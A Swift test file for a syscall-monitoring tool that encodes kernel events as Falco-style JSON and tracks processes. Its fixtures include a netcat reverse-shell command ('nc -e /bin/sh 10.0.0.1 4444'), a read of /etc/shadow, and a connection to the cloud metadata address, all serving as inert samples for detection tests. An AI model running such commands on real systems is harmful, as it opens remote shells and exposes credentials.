import Foundation
import Testing
import WitnessTestSupport

@testable import WitnessCore

@Suite("Falco-shaped JSON for events")
struct EventJSONEncoderTests {
    let clock = WallClock(offset: 1_778_536_628_000_000_000)

    func encode(
        _ fixture: RecordFixture, process: ProcessRecord? = nil, parent: ProcessRecord? = nil
    ) throws
        -> [String: Any]
    {
        let encoder = EventJSONEncoder(hostname: Array("node-1".utf8), clock: clock)
        var labels = SubjectLabels()
        labels[0] = "cgroup:/trial"
        var writer = JSONWriter()
        try fixture.withResolved(processes: [process, parent].compactMap { $0 }, clock: clock) {
            encoder.encode($0, labels: labels, into: &writer)
        }
        #expect(writer.bytes.last == UInt8(ascii: "\n"))
        #expect(writer.bytes.filter { $0 == UInt8(ascii: "\n") }.count == 1)
        return try #require(try JSONSerialization.jsonObject(with: Data(writer.bytes)) as? [String: Any])
    }

    @Test func openEventHasFalcoShapeAndFields() throws {
        let process = ProcessRecord(
            pid: 4242, ppid: 1, name: Array("cat".utf8), exePath: Array("/usr/bin/cat".utf8),
            argv: Array("cat\0/etc/shadow\0".utf8))
        let parent = ProcessRecord(pid: 1, ppid: 0, name: Array("bash".utf8), exePath: [], argv: [])
        let line = try encode(
            RecordFixture.open(path: Array("/etc/shadow".utf8), flags: 0o2000000, result: 3), process: process,
            parent: parent)
        #expect(line["time"] as? String == "2026-05-11T21:57:09.000000000Z")
        #expect(line["source"] as? String == "syscall")
        #expect(line["hostname"] as? String == "node-1")
        #expect(line["subjects"] as? [String] == ["cgroup:/trial"])
        #expect((line["output"] as? String)?.hasPrefix("openat /etc/shadow res=SUCCESS proc=cat pid=4242") == true)
        let fields = try #require(line["output_fields"] as? [String: Any])
        #expect(fields["evt.type"] as? String == "openat")
        #expect(fields["evt.res"] as? String == "SUCCESS")
        #expect(fields["evt.rawres"] as? Int == 3)
        #expect(fields["fd.name"] as? String == "/etc/shadow")
        #expect(fields["fd.num"] as? Int == 3)
        #expect(fields["evt.arg.flags"] as? String == "O_RDONLY|O_CLOEXEC")
        #expect(fields["proc.name"] as? String == "cat")
        #expect(fields["proc.exepath"] as? String == "/usr/bin/cat")
        #expect(fields["proc.cmdline"] as? String == "cat /etc/shadow")
        #expect(fields["proc.pname"] as? String == "bash")
        #expect(fields["proc.pid"] as? Int == 4242)
        #expect(fields["proc.ppid"] as? Int == 1)
        #expect(fields["user.uid"] as? Int == 1000)
        #expect(fields["container.id"] as? String == "host")
        #expect(fields["evt.time"] as? Int64 == 1_778_536_629_000_000_000)
    }

    @Test func failedOpenNamesTheErrnoAndUnknownsAreNull() throws {
        let line = try encode(RecordFixture.open(path: Array("/nope".utf8), result: -2))
        let fields = try #require(line["output_fields"] as? [String: Any])
        #expect(fields["evt.res"] as? String == "ENOENT")
        #expect(fields["evt.rawres"] as? Int == -2)
        #expect(fields["fd.num"] as? Int == -1)
        #expect(fields["proc.exepath"] is NSNull)
        #expect(fields["proc.pname"] is NSNull)
    }

    @Test func truncationIsFlaggedNeverSilent() throws {
        let line = try encode(RecordFixture.open(path: Array("/x".utf8), eventFlags: 1))
        #expect(line["truncated"] as? [String] == ["path"])
        let clean = try encode(RecordFixture.open(path: Array("/x".utf8)))
        #expect(clean["truncated"] == nil)
    }

    @Test func connectEventCarriesBothEnds() throws {
        let line = try encode(
            RecordFixture.connect(
                sockaddr: RecordFixture.sockaddrIPv4(169, 254, 169, 254, port: 80), local: [10, 1, 2, 3],
                localPort: 40000))
        let fields = try #require(line["output_fields"] as? [String: Any])
        #expect(fields["fd.name"] as? String == "10.1.2.3:40000->169.254.169.254:80")
        #expect(fields["fd.sip"] as? String == "169.254.169.254")
        #expect(fields["fd.sport"] as? Int == 80)
        #expect(fields["fd.cip"] as? String == "10.1.2.3")
        #expect(fields["fd.cport"] as? Int == 40000)
        #expect(fields["fd.typechar"] as? String == "4")
    }

    @Test func execEventHasArgs() throws {
        let line = try encode(
            RecordFixture.exec(filename: "/usr/bin/nc", argv: ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]))
        let fields = try #require(line["output_fields"] as? [String: Any])
        #expect(fields["evt.type"] as? String == "execve")
        #expect(fields["proc.args"] as? String == "-e /bin/sh 10.0.0.1 4444")
        #expect(fields["evt.arg.filename"] as? String == "/usr/bin/nc")
    }

    @Test func textFormatterEscapesTerminalControl() throws {
        var formatter = EventTextFormatter(clock: clock)
        var writer = JSONWriter()
        try RecordFixture.open(path: Array("/tmp/\u{1B}[31mred\n".utf8)).withEvent {
            formatter.format($0, into: &writer)
        }
        let line = String(decoding: writer.bytes, as: UTF8.self)
        #expect(!line.contains("\u{1B}"))
        #expect(line.contains("\\u001b[31mred\\n"))
        #expect(line.filter { $0 == "\n" }.count == 1)
    }
}

@Suite("Pipeline and process table")
struct EventPipelineTests {
    @Test func pipelineWritesOneLinePerEventAndTracksProcesses() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("witness-pipeline-\(UUID()).jsonl")
            .path
        defer { unlink(path) }
        let sink = try OutputSink.appending(to: path)
        let table = ProcessTable(procRoot: "/nonexistent")
        let pipeline = EventPipeline(
            sink: sink, format: .json, printsEvents: true, hostname: Array("h".utf8), clock: WallClock(offset: 0),
            processes: table)
        for fixture in [
            RecordFixture.exec(filename: "/usr/bin/cat", argv: ["cat", "/etc/hosts"]),
            RecordFixture.open(path: Array("/etc/hosts".utf8)),
        ] {
            fixture.bytes.withUnsafeBytes { pipeline.handle($0) }
        }
        [UInt8](repeating: 0xAB, count: 100).withUnsafeBytes { pipeline.handle($0) }  // garbage: counted, not printed
        pipeline.flush()
        #expect(pipeline.counts.total == 2)
        #expect(pipeline.counts.undecodable == 1)
        #expect(table.cached(4242)?.exePath == Array("/usr/bin/cat".utf8))
        let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
        #expect(lines.count == 2)
        let open = try #require(try JSONSerialization.jsonObject(with: Data(lines[1].utf8)) as? [String: Any])
        let fields = try #require(open["output_fields"] as? [String: Any])
        #expect(fields["proc.cmdline"] as? String == "cat /etc/hosts")
        #expect(fields["proc.exepath"] as? String == "/usr/bin/cat")
    }

    @Test func processTableForksExitsAndReadsProc() throws {
        let table = ProcessTable()
        let me = getpid()
        let record = try #require(table.lookup(me))
        #expect(record.pid == me)
        #expect(record.ppid == getppid())
        #expect(!record.exePath.isEmpty)
        #expect(record.vpid == me, "getpid() is the pid in our own namespace, NSpid's last")
        table.fork(parent: me, child: 999_999)
        #expect(table.cached(999_999)?.ppid == me)
        #expect(table.cached(999_999)?.vpid == nil, "a child's namespace pid is its own")
        table.exit(999_999)
        #expect(table.cached(999_999) == nil)
        #expect(table.lookup(-5) == nil)
    }

    @Test func aProcessGoneFromProcIsNotReadAgain() {
        let table = ProcessTable(procRoot: "/nonexistent")
        #expect(table.lookup(31_337) == nil)
        #expect(table.lookup(31_337) == nil)
        #expect(table.procReads == 1)
        table.insert(ProcessRecord(pid: 31_337, ppid: 1, name: Array("back".utf8), exePath: [], argv: []))
        #expect(table.lookup(31_337)?.name == Array("back".utf8), "a reused pid is known again")
    }

    @Test func processTableIsBounded() {
        let table = ProcessTable(procRoot: "/nonexistent", capacity: 10)
        for pid in 1...100 {
            table.insert(ProcessRecord(pid: Int32(pid), ppid: 0, name: [], exePath: [], argv: []))
        }
        #expect(table.count == 10)
    }

    @Test func findsTheCgroupMount() throws {
        let cgroups = try CgroupFS.detect()
        #expect(access(cgroups.mountPoint + "/cgroup.procs", F_OK) == 0)
        #expect(CgroupFS.unescapeMountPath(ArraySlice("/a\\040b".utf8)) == "/a b")
        #expect(throws: AgentError.self) { try cgroups.directory(for: "/no-such-cgroup-\(UUID())") }
        #expect(try cgroups.directory(for: "/") == cgroups.mountPoint + "/")
    }
}
